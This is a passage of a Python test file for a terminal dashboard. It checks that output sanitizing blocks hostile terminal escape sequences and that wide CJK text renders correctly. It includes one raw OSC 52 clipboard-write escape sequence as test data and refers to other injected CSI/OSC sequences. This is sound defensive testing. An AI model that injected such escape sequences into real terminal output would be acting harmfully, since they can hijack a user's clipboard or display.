    harmless = {"wide_cjk", "combining", "newlines"}
    for name, value in hostile.CORPUS.items():
        problems = stream_problems(frame + value.encode("utf-8", "surrogatepass") + frame)
        assert bool(problems) == (name not in harmless), (name, problems)
    own = b"\x1b]52;c;MS4yLjMuNA==\x07"
    assert stream_problems(frame + own, allowed_osc=(own,)) == []
    assert stream_problems(frame + own) != []


def test_detail_box_shows_all_of_a_wide_value():
    # found here: wrap_fields wrapped by characters, so a CJK line was twice the box's width and
    # cut by the write path; fixed in 58299a4
    from kalipso.text import cell_width, fit
    from kalipso.views.base import wrap_fields
    value = "主机名称-服务器-" * 10
    for width in (74, 98):  # the detail box's inner width at 80 and 120 columns
        rows = wrap_fields([("description", value)], width)
        shown = "".join(fit(label + text, width)[len(label):] for label, text in rows)
        assert shown.replace(" ", "") == value, (width, [cell_width(label + text) for label, text in rows])


def test_lang_c_ascii_stand_ins_on_hostile_data(run_of):
    """LANG=C on the hostile database: the glyphs test_terminal.py checks on the demo also have
    their stand-ins here (arrows, current-window mark, ×, focus), and a wide or zero-width
    grapheme is one '?' instead of a blank or a wrong width."""
    s = run_of("LANG=C-120x40")
    screens = dict((what, screen) for what, screen, _ in s.screens)
    assert "^10 v20" in screens["timewindow1"]  # ↑ ↓ of the timeline
    assert re.search(r"\*timewindow\d", "\n".join(v for k, v in screens.items() if k.startswith("window")))
    assert re.search(r"critical x1 ", screens["evidence focus"])  # ×N of an evidence group
    assert "> Evidence" in screens["evidence focus"] and "> Profiles" in screens["tree focus"]
    assert "????-???" in screens["windows"]  # 主机名称-服务器: the host name of the hostile profile
    assert "\ufffd" not in "".join(screens.values())


@pytest.mark.parametrize("kind", ["current-120x40"])
def test_no_remnant_of_an_8bit_sequence_on_screen(run_of, kind):
    # found here: of an 8-bit CSI/OSC only the introducer was dropped: hostile.C1_CSI showed as
    # 'x31mC10m' and hostile.C1_OSC as '0;title'; fixed in 359ce01
    s = run_of(kind)
    found = {(what, r) for what, screen, _ in s.screens for r in ("31mC1", "C10m", "0;title") if r in screen}
    assert not found, sorted(found)[:5]
